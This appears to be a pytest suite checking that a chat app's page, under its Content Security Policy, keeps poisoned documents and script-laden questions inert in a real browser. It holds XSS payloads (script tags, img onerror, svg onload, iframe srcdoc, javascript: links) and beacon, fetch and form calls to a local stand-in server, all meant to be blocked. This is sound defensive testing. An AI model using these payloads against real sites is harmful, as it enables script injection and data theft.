"""The poisoned documents in a real browser, under the page's own policy: nothing of them acts.

The readers of ``conftest.py`` fail where the page asks another host for anything, or where the browser
has to refuse something; so it is not the policy alone that holds. That it holds, too, is tried at the
end, by what no document gets in.
"""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import quote

import pytest

from citechat import CiteChat, Settings
from citechat.testing import LetterCountEmbedder
from machine import CHROMIUM, free_port
from poison import ABOUT_POISON, TRACE, poison

pytestmark = pytest.mark.slow

if not CHROMIUM:
    pytest.skip("no Chromium on this machine", allow_module_level=True)

# What could act, where documents and readers are shown.
ACTIVE = """() => {
  const shown = ["#past", "#newest", "#source"].flatMap((place) => [...document.querySelectorAll(place + " *")]);
  const acts = (element) =>
    element.matches("script, iframe, object, embed, img, form, base, link, meta, style, svg [onload]")
    || [...element.attributes].some(({ name, value }) =>
      name.startsWith("on") || (/^(href|src|action|formaction)$/.test(name) && !/^(https?:|[?#])/.test(value)));
  return shown.filter(acts).map((element) => element.outerHTML.slice(0, 200));
}"""


@pytest.fixture(scope="module")
def chat_of_poison(tmp_path_factory: pytest.TempPathFactory) -> CiteChat:
    folder = tmp_path_factory.mktemp("poisoned") / "corpus"
    folder.mkdir()
    poison(folder)
    settings = Settings(corpus=folder, index_dir=folder.parent / "index")
    chat = CiteChat(settings, embedder=LetterCountEmbedder())
    chat.warm_up()
    return chat


@pytest.fixture(scope="module")
def address(chat_of_poison: CiteChat) -> Iterator[str]:
    from citechat.page import launch

    port = free_port()
    page = launch(chat_of_poison, port=port, block=False)
    yield f"http://127.0.0.1:{port}"
    page.close()


@pytest.fixture
def page(readers: Any) -> Any:
    page = readers.open()
    page.on("dialog", lambda dialog: readers.problems.append(f"a dialog: {dialog.message}"))
    return page


def ask(page: Any, question: str) -> Any:
    turns = page.locator(".turn").count()
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    answer = page.locator(".turn").nth(turns).locator(".answer, .abstained")
    answer.first.wait_for()
    return page.locator(".turn").nth(turns)


def test_answers_from_poison_act_in_nothing_and_their_marks_are_the_chats_own(
    page: Any, chat_of_poison: CiteChat
) -> None:
    opened = 0
    for question in ABOUT_POISON:
        if page.locator(".turn").count():  # else it would be read as a follow-up
            page.click("#clear")
            page.wait_for_function("document.querySelectorAll('.turn').length === 0")
        turn = ask(page, question)
        marks = turn.locator("button.mark[data-citation]")
        expected = [str(mark.number) for mark in chat_of_poison.answer(question).marks]
        numbers = [marks.nth(n).get_attribute("data-citation") for n in range(marks.count())]
        assert numbers == expected
        for number in range(marks.count()):
            marks.nth(number).click()
            cited = marks.nth(number).get_attribute("data-quote")
            page.wait_for_function(
                "quote => document.querySelector('#source mark')?.textContent === quote", arg=cited
            )
            opened += 1
        assert page.evaluate(ACTIVE) == []
        assert page.evaluate(f"typeof {TRACE}") == "undefined"
    assert opened >= len(ABOUT_POISON) // 2


def test_every_poisoned_document_is_shown_and_acts_in_nothing(
    page: Any, chat_of_poison: CiteChat
) -> None:
    for language, name in sorted(chat_of_poison.index.documents):
        place = f"?doc={quote(name)}&lang={language}&at=0-1"
        page.evaluate("place => window.citechat.openPlace(place)", place)
        page.wait_for_function(
            "name => new URLSearchParams(document.querySelector('#source .source')?.dataset.place)"
            ".get('doc') === name",
            arg=name,
        )
        assert page.evaluate(ACTIVE) == []
        links = page.locator("#source a[target='_blank']")
        for number in range(links.count()):
            assert links.nth(number).get_attribute("rel") == "noopener noreferrer"
    page.click("body")
    assert page.evaluate(f"typeof {TRACE}") == "undefined"


def test_a_title_and_a_question_of_script_are_letters(page: Any) -> None:
    turn = ask(page, f"What is <script>{TRACE}=8</script> <img src=x onerror={TRACE}=9> zeppelin?")

    assert f"<img src=x onerror={TRACE}=9>" in turn.inner_text()
    assert page.evaluate(ACTIVE) == []
    assert page.evaluate(f"typeof {TRACE}") == "undefined"


# The second wall: what would happen if something got through


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what it was asked for."""
    asked: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


GETS_IN = """([trace, stranger]) => {
  const put = (html) => document.querySelector("#past").insertAdjacentHTML("beforeend", html);
  const script = document.createElement("script");
  script.textContent = trace + "=1";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = stranger + "/script";
  document.body.append(foreign);
  put(`<img src="x" onerror="${trace}=2"><svg onload="${trace}=3"></svg>`);
  put(`<img src="${stranger}/image"><iframe src="${stranger}/frame"></iframe>`);
  put(`<iframe srcdoc="<script>parent.${trace}=4</script>"></iframe><object data="${stranger}/object"></object>`);
  put(`<link rel="stylesheet" href="${stranger}/style"><base href="${stranger}/">`);
  put(`<a id="evil" href="javascript:${trace}=5">x</a><form id="form" action="${stranger}/form"></form>`);
  document.querySelector("#evil").click();
  document.querySelector("#form").submit();
  navigator.sendBeacon(stranger + "/beacon");
  return fetch(stranger + "/fetch").then(() => "fetched", () => "refused");
}"""


def test_what_got_in_nevertheless_would_run_nothing_and_reach_nobody(
    browser: Any, address: str, stranger: tuple[str, list[str]]
) -> None:
    there, asked = stranger
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(address)
    page.wait_for_selector("#masthead .masthead")

    assert page.evaluate(GETS_IN, [TRACE, there]) == "refused"
    page.wait_for_timeout(1_000)

    assert page.evaluate(f"typeof {TRACE}") == "undefined"
    assert asked == []
    assert sum("Content Security Policy" in line for line in refused) >= 8
    page.close()
